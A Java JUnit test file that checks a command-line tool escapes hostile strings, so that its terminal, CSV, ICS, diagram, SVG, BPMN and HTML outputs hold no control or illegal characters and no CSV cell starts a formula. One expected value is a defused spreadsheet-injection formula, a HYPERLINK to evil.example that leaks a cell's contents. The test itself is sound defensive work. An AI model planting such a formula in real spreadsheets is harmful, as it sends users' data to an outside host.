package org.escalon.tests;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import javax.xml.parsers.DocumentBuilderFactory;
import org.escalon.simulate.Escapes;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/**
 * No output carries a protocol's hostile text as it is: no control character, bidirectional
 * override or non-character reaches the terminal or a CSV, ICS, DOT or Mermaid file; no CSV cell
 * starts a formula; SVG and BPMN stay well-formed XML, and the report holds only characters XML
 * allows.
 */
class SafeOutputsTest {

  private static final Path CASES = Path.of("src/test/resources/reliability");
  private static final String HOSTILE = CASES.resolve("r5-hostile-strings.esc").toString();
  private static final String FORMULA = CASES.resolve("r5-csv-formula.esc").toString();
  private static final String NONCHAR = CASES.resolve("r5-nonchar-fffe.esc").toString();

  @TempDir Path out;

  /** The characters of a text that are unsafe; a CR before an LF ends a CSV or ICS line. */
  private static List<String> unsafe(String text) {
    List<String> found = new ArrayList<>();
    for (int i = 0; i < text.length(); i++) {
      boolean lineEnd = text.charAt(i) == '\r' && i + 1 < text.length()
          && text.charAt(i + 1) == '\n';
      if (!lineEnd && Escapes.unsafe(text, i)) {
        found.add(String.format("U+%04X at %d", (int) text.charAt(i), i));
      }
    }
    return found;
  }

  @ParameterizedTest(name = "{0}")
  @ValueSource(strings = {"check", "simulate table", "simulate csv", "simulate ics",
      "simulate json", "diagram dot", "diagram mermaid", "verify", "export json"})
  void theTerminalAndTextFormatsGetNoControlCharacter(String command) {
    for (String file : List.of(HOSTILE, NONCHAR)) {
      String[] words = command.split(" ");
      List<String> args = new ArrayList<>(List.of(words[0], file));
      if (words[0].equals("simulate")) {
        args.addAll(List.of("--start", "2026-12-14", "--format", words[1]));
      } else if (words.length > 1) {
        args.addAll(List.of("--format", words[1]));
      }
      Repository.Run run = Repository.cli(args.toArray(String[]::new));
      assertFalse(run.exitCode() == 70, run.err());
      assertEquals(List.of(), unsafe(run.out()), command + " printed, for " + file);
      assertEquals(List.of(), unsafe(run.err()), command + " printed on stderr, for " + file);
    }
  }

  @Test
  void theFilesAreEscapedByTheirOwnFormat() throws IOException {
    for (String format : List.of("csv", "ics")) {
      Path file = out.resolve("t." + format);
      Repository.cli("simulate", HOSTILE, "--start", "2026-12-14", "--format", format, "-o",
          file.toString());
      assertEquals(List.of(), unsafe(Files.readString(file)), format);
    }
    for (String format : List.of("dot", "mermaid")) {
      Path file = out.resolve("d." + format);
      Repository.cli("diagram", HOSTILE, "--format", format, "-o", file.toString());
      assertEquals(List.of(), unsafe(Files.readString(file)), format);
    }
  }

  @Test
  void noCsvCellStartsAFormula() {
    Repository.Run run = Repository.cli("simulate", FORMULA, "--start", "2026-12-14", "--format",
        "csv");
    assertEquals(0, run.exitCode(), run.err());
    List<String> cells = cells(run.out());
    assertTrue(cells.contains("'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\") ("
        + FORMULA + ":11:5)"), cells.toString());
    for (String cell : cells) {
      assertFalse(!cell.isEmpty() && "=+-@\t\r".indexOf(cell.charAt(0)) >= 0, cell);
    }
  }

  @Test
  void svgBpmnAndTheReportHoldOnlyWhatXmlAllows() throws Exception {
    Path svg = out.resolve("l.svg");
    Path bpmn = out.resolve("p.bpmn");
    Path html = out.resolve("r.html");
    for (String file : List.of(NONCHAR, HOSTILE)) {
      assertEquals(0, Repository.cli("diagram", file, "--format", "svg", "-o", svg.toString())
          .exitCode());
      assertEquals(0, Repository.cli("export", file, "--format", "bpmn", "-o", bpmn.toString())
          .exitCode());
      Repository.cli("report", file, "--start", "2026-12-14", "-o", html.toString());
      for (Path xml : List.of(svg, bpmn)) {
        DocumentBuilderFactory.newInstance().newDocumentBuilder().parse(xml.toFile());
      }
      String report = Files.readString(html);
      for (int i = 0; i < report.length(); i++) {
        char c = report.charAt(i);
        boolean legal = c == '\t' || c == '\n' || c == '\r' || (c >= 0x20 && c <= 0xD7FF)
            || (c >= 0xE000 && c <= 0xFFFD) || Character.isSurrogate(c);
        assertTrue(legal, String.format("U+%04X in the report of %s", (int) c, file));
      }
    }
  }

  /** The cells of an RFC 4180 text. */
  private static List<String> cells(String csv) {
    List<String> cells = new ArrayList<>();
    StringBuilder cell = new StringBuilder();
    boolean quoted = false;
    for (int i = 0; i < csv.length(); i++) {
      char c = csv.charAt(i);
      if (quoted) {
        if (c == '"' && i + 1 < csv.length() && csv.charAt(i + 1) == '"') {
          cell.append('"');
          i++;
        } else if (c == '"') {
          quoted = false;
        } else {
          cell.append(c);
        }
      } else if (c == '"') {
        quoted = true;
      } else if (c == ',' || c == '\n') {
        cells.add(cell.toString());
        cell.setLength(0);
      } else if (c != '\r') {
        cell.append(c);
      }
    }
    return cells;
  }
}
